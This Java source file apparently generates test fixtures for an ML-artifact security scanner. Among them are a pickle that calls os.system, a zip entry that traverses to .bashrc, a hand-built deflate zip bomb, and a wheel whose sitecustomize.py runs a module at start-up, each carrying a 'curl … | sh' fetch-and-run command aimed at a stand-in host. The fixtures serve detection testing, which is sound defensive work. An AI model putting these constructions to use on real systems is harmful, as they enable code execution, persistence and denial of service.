package dev.veritensor.examples;


import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;

/**
 * Writes the binary files of the demo project (models, data exports, a downloaded wheel) byte by
 * byte, so that every committed binary is explained by this code: pickles opcode by opcode, zip
 * archives field by field (no timestamps, nothing left to the platform's compressor), the one
 * compressed stream as hand-written deflate codes. Nothing here loads or runs what it writes.
 *
 * <p>Run {@code main} with the demo folder as argument (default {@code demo-ml-project}, the
 * examples module's working directory) to rewrite them; {@link DemoArtifactsTest} checks the
 * committed files are exactly what this writes.
 */
public final class DemoArtifacts {

    /** The shell command the malicious artifacts carry (never run: it only has to look like a payload). */
    static final String PAYLOAD = "curl -s https://collector.example/c | sh";

    /**
     * Uncompressed size of the data export that expands far beyond its compressed size: 40 MiB,
     * above the 32 MiB from which expansion ratios are judged.
     */
    static final int BOMB_SIZE = 1 + 258 * 162_600;

    private DemoArtifacts() {
    }

    /** Writes every artifact below {@code demo}. */
    public static void main(String[] args) throws IOException {
        Path demo = Path.of(args.length > 0 ? args[0] : "demo-ml-project");
        for (Map.Entry<String, byte[]> e : artifacts().entrySet()) {
            Path file = demo.resolve(e.getKey());
            Files.createDirectories(file.getParent());
            Files.write(file, e.getValue());
        }
    }

    /** Every artifact by its path in the demo project, in a fixed order. */
    static Map<String, byte[]> artifacts() {
        Map<String, byte[]> out = new LinkedHashMap<>();
        out.put("models/churn-v3.pkl", sklearnPipeline());
        out.put("models/churn-v2.pt", torchCheckpoint(new Pickle().proto(2).global("os", "system")
                .string0(PAYLOAD).tuple1().reduce().stop().bytes(), false));
        out.put("models/checkpoints/epoch-12.pt", torchCheckpoint(stateDict(), true));
        out.put("models/scaler.pkl", truncatedPickle());
        out.put("models/churn-keras.keras", kerasWithLambda());
        out.put("models/embeddings.safetensors", overlappingSafetensors());
        out.put("data/labels.npy", objectArrayNpy());
        out.put("data/exports/crm-export-2024-06.zip", new Zip()
                .stored("crm/customers.csv", utf8("id,plan,churned\n1,pro,0\n"))
                .stored("../../../.bashrc", utf8(PAYLOAD + "\n")).bytes());
        out.put("data/exports/clickstream-2024-06.zip", new Zip()
                .deflated("clickstream.csv", zerosDeflated(), BOMB_SIZE, zerosCrc()).bytes());
        out.put("wheels/churn_features-0.9.0-py3-none-any.whl", tamperedWheel());
        return out;
    }

    /** A scikit-learn pipeline as pickle protocol 4 writes it: a class outside the default allow-list. */
    private static byte[] sklearnPipeline() {
        return new Pickle().proto(4).str("sklearn.pipeline").str("Pipeline").stackGlobal().emptyTuple().newobj()
                .emptyDict().build().stop().bytes();
    }

    /** An empty state dict: {@code collections.OrderedDict()}. */
    private static byte[] stateDict() {
        return new Pickle().proto(2).global("collections", "OrderedDict").emptyTuple().reduce().stop().bytes();
    }

    /** A pickle cut off in the middle of its first opcode's argument, as an interrupted copy leaves it. */
    private static byte[] truncatedPickle() {
        byte[] whole = stateDict();
        return java.util.Arrays.copyOf(whole, 10);
    }

    /**
     * A PyTorch zip checkpoint around {@code dataPkl} with one storage; {@code badStorageCrc} writes
     * a CRC for the storage that does not match its bytes (the storage was changed after saving).
     */
    private static byte[] torchCheckpoint(byte[] dataPkl, boolean badStorageCrc) {
        Zip z = new Zip().stored("archive/data.pkl", dataPkl).stored("archive/byteorder", utf8("little"));
        byte[] storage = new byte[24];
        if (badStorageCrc) {
            z.storedWithCrc("archive/data/0", storage, 7);
        } else {
            z.stored("archive/data/0", storage);
        }
        return z.stored("archive/version", utf8("3\n")).bytes();
    }

    /** A Keras 3 model whose Lambda layer carries marshalled Python bytecode. */
    private static byte[] kerasWithLambda() {
        String config = "{\"module\": \"keras\", \"class_name\": \"Sequential\", \"config\": {\"name\": \"churn\","
                + " \"layers\": [{\"module\": \"keras.layers\", \"class_name\": \"InputLayer\", \"config\":"
                + " {\"name\": \"features\"}}, {\"module\": \"keras.layers\", \"class_name\": \"Lambda\", \"config\":"
                + " {\"name\": \"normalise\", \"function\": {\"class_name\": \"__lambda__\", \"config\": {\"code\":"
                + " \"4wEAAAAAAAAA\", \"defaults\": null, \"closure\": null}}}}, {\"module\": \"keras.layers\","
                + " \"class_name\": \"Dense\", \"config\": {\"name\": \"churn\", \"units\": 1, \"activation\":"
                + " \"sigmoid\"}}]}, \"registered_name\": null}";
        return new Zip()
                .stored("metadata.json", utf8("{\"keras_version\": \"3.8.0\", \"date_saved\": \"2024-06-30@12:00:00\"}"))
                .stored("config.json", utf8(config))
                .stored("model.weights.h5", new byte[] {(byte) 0x89, 'H', 'D', 'F', '\r', '\n', 0x1a, '\n', 0, 0})
                .bytes();
    }

    /** A safetensors file whose two tensors claim overlapping bytes. */
    private static byte[] overlappingSafetensors() {
        byte[] header = utf8("{\"embedding\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]},"
                + "\"bias\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[4,12]}}");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        le(out, header.length, 8);
        out.writeBytes(header);
        out.writeBytes(new byte[16]);
        return out.toByteArray();
    }

    /** {@code numpy.save} of an object array holding the string "churned": its data is a pickle. */
    private static byte[] objectArrayNpy() {
        byte[] pickle = new Pickle().proto(3)
                .global("numpy.core.multiarray", "_reconstruct")
                .global("numpy", "ndarray").binint(0).tuple1().shortBytes(utf8("b")).tuple3().reduce()
                .mark().binint(1).binint(1).tuple1()
                .global("numpy", "dtype").str("O8").bool(false).bool(true).tuple3().reduce()
                .mark().binint(3).str("|").none().none().none().binint(-1).binint(-1).binint(63).tuple().build()
                .bool(false).emptyList().str("churned").append().tuple().build().stop().bytes();
        String header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }";
        header = header + " ".repeat((64 - (10 + header.length() + 1) % 64) % 64) + "\n";
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x93, 'N', 'U', 'M', 'P', 'Y', 1, 0});
        le(out, header.length(), 2);
        out.writeBytes(header.getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(pickle);
        return out.toByteArray();
    }

    /**
     * A wheel that installs {@code sitecustomize.py} (run at every Python start-up) and holds a
     * module its RECORD does not list (added after the wheel was built).
     */
    private static byte[] tamperedWheel() {
        String distInfo = "churn_features-0.9.0.dist-info";
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("churn_features/__init__.py", utf8("from .encode import encode\n"));
        files.put("churn_features/encode.py", utf8("def encode(row):\n    return [row.get(\"tenure\", 0)]\n"));
        files.put("sitecustomize.py", utf8("import churn_features._telemetry\n"));
        files.put(distInfo + "/METADATA", utf8("Metadata-Version: 2.1\nName: churn-features\nVersion: 0.9.0\n"));
        files.put(distInfo + "/WHEEL", utf8("Wheel-Version: 1.0\nGenerator: bdist_wheel (0.43.0)\n"
                + "Root-Is-Purelib: true\nTag: py3-none-any\n"));
        StringBuilder record = new StringBuilder();
        files.forEach((name, data) -> record.append(name).append(",sha256=").append(sha256(data)).append(',')
                .append(data.length).append('\n'));
        record.append(distInfo).append("/RECORD,,\n");
        Zip z = new Zip();
        files.forEach(z::stored);
        z.stored(distInfo + "/RECORD", utf8(record.toString()));
        z.stored("churn_features/_telemetry.py", utf8("import os\nos.system(\"" + PAYLOAD + "\")\n"));
        return z.bytes();
    }

    /**
     * A raw deflate stream of {@link #BOMB_SIZE} zero bytes in one dynamic-Huffman block: a literal
     * zero, then 162,600 copies of (length 258, distance 1) at two bits each, then end-of-block.
     * Literal/length codes: 285 = {@code 0}, 0 = {@code 10}, 256 = {@code 11}; distance 1 = {@code 0}.
     */
    static byte[] zerosDeflated() {
        Bits b = new Bits();
        b.value(1, 1).value(2, 2);            // BFINAL, BTYPE = dynamic
        b.value(29, 5).value(0, 5).value(14, 4); // HLIT = 286 - 257, HDIST = 1 - 1, HCLEN = 18 - 4
        // code length code lengths in the order 16 17 18 0 8 7 9 6 10 5 11 4 12 3 13 2 14 1:
        // 18 -> 1 bit, 1 and 2 -> 2 bits; canonical codes 18 = 0, 1 = 10, 2 = 11
        int[] order = {0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2};
        for (int len : order) {
            b.value(len, 3);
        }
        b.code("11");                         // symbol 0: length 2
        b.code("0").value(138 - 11, 7);      // symbols 1..138: 0
        b.code("0").value(117 - 11, 7);      // symbols 139..255: 0
        b.code("11");                         // symbol 256: length 2
        b.code("0").value(28 - 11, 7);       // symbols 257..284: 0
        b.code("10");                         // symbol 285: length 1
        b.code("10");                         // distance code 0: length 1
        b.code("10");                         // literal 0
        for (int i = 0; i < (BOMB_SIZE - 1) / 258; i++) {
            b.code("0").code("0");            // length 258, distance 1
        }
        b.code("11");                         // end of block
        return b.bytes();
    }

    private static long zerosCrc() {
        CRC32 crc = new CRC32();
        crc.update(new byte[BOMB_SIZE]);
        return crc.getValue();
    }

    private static String sha256(byte[] data) {
        try {
            byte[] d = MessageDigest.getInstance("SHA-256").digest(data);
            return Base64.getUrlEncoder().withoutPadding().encodeToString(d);
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static void le(ByteArrayOutputStream out, long v, int width) {
        for (int i = 0; i < width; i++) {
            out.write((int) (v >>> (8 * i)) & 0xff);
        }
    }

    /** A deflate bit stream: fields least significant bit first, Huffman codes most significant bit first. */
    private static final class Bits {
        private final ByteArrayOutputStream out = new ByteArrayOutputStream();
        private int current;
        private int used;

        Bits value(int v, int width) {
            for (int i = 0; i < width; i++) {
                bit((v >>> i) & 1);
            }
            return this;
        }

        Bits code(String bits) {
            for (char c : bits.toCharArray()) {
                bit(c - '0');
            }
            return this;
        }

        private void bit(int b) {
            current |= b << used;
            if (++used == 8) {
                out.write(current);
                current = 0;
                used = 0;
            }
        }

        byte[] bytes() {
            if (used > 0) {
                out.write(current);
                current = 0;
                used = 0;
            }
            return out.toByteArray();
        }
    }

    /** A zip archive written field by field: no timestamps, no extra fields, version 2.0. */
    private static final class Zip {
        private record Entry(String name, byte[] stored, int method, long size, long crc) {
        }

        private final List<Entry> entries = new ArrayList<>();

        Zip stored(String name, byte[] data) {
            CRC32 crc = new CRC32();
            crc.update(data);
            return storedWithCrc(name, data, crc.getValue());
        }

        Zip storedWithCrc(String name, byte[] data, long crc) {
            entries.add(new Entry(name, data, 0, data.length, crc));
            return this;
        }

        Zip deflated(String name, byte[] compressed, long size, long crc) {
            entries.add(new Entry(name, compressed, 8, size, crc));
            return this;
        }

        byte[] bytes() {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            ByteArrayOutputStream central = new ByteArrayOutputStream();
            for (Entry e : entries) {
                byte[] name = utf8(e.name());
                long offset = out.size();
                le(out, 0x04034b50, 4);
                header(out, e, name);
                out.writeBytes(name);
                out.writeBytes(e.stored());
                le(central, 0x02014b50, 4);
                le(central, 20, 2);
                header(central, e, name);
                le(central, 0, 2);
                le(central, 0, 2);
                le(central, 0, 2);
                le(central, 0, 4);
                le(central, offset, 4);
                central.writeBytes(name);
            }
            long centralOffset = out.size();
            byte[] cd = central.toByteArray();
            out.writeBytes(cd);
            le(out, 0x06054b50, 4);
            le(out, 0, 2);
            le(out, 0, 2);
            le(out, entries.size(), 2);
            le(out, entries.size(), 2);
            le(out, cd.length, 4);
            le(out, centralOffset, 4);
            le(out, 0, 2);
            return out.toByteArray();
        }

        /** The fields local and central headers share: version needed to name and extra lengths. */
        private static void header(ByteArrayOutputStream out, Entry e, byte[] name) {
            le(out, 20, 2);
            le(out, 0, 2);
            le(out, e.method(), 2);
            le(out, 0, 4);
            le(out, e.crc(), 4);
            le(out, e.stored().length, 4);
            le(out, e.size(), 4);
            le(out, name.length, 2);
            le(out, 0, 2);
        }
    }

    /** Pickle opcodes, written one by one. */
    private static final class Pickle {
        private final ByteArrayOutputStream out = new ByteArrayOutputStream();

        private Pickle op(int... bytes) {
            for (int b : bytes) {
                out.write(b);
            }
            return this;
        }

        private Pickle line(String text) {
            out.writeBytes(utf8(text));
            out.write('\n');
            return this;
        }

        Pickle proto(int n) {
            return op(0x80, n);
        }

        Pickle global(String module, String name) {
            return op('c').line(module).line(name);
        }

        Pickle stackGlobal() {
            return op(0x93);
        }

        Pickle str(String s) {
            byte[] b = utf8(s);
            op(0x8c, b.length);
            out.writeBytes(b);
            return this;
        }

        Pickle string0(String s) {
            return op('S').line("'" + s + "'");
        }

        Pickle shortBytes(byte[] b) {
            op('C', b.length);
            out.writeBytes(b);
            return this;
        }

        Pickle binint(int v) {
            if (v >= 0 && v < 256) {
                return op('K', v);
            }
            op('J');
            le(out, v, 4);
            return this;
        }

        Pickle none() {
            return op('N');
        }

        Pickle bool(boolean v) {
            return op(v ? 0x88 : 0x89);
        }

        Pickle mark() {
            return op('(');
        }

        Pickle tuple() {
            return op('t');
        }

        Pickle tuple1() {
            return op(0x85);
        }

        Pickle tuple3() {
            return op(0x87);
        }

        Pickle emptyTuple() {
            return op(')');
        }

        Pickle emptyList() {
            return op(']');
        }

        Pickle emptyDict() {
            return op('}');
        }

        Pickle append() {
            return op('a');
        }

        Pickle reduce() {
            return op('R');
        }

        Pickle build() {
            return op('b');
        }

        Pickle newobj() {
            return op(0x81);
        }

        Pickle stop() {
            return op('.');
        }

        byte[] bytes() {
            return out.toByteArray();
        }
    }
}
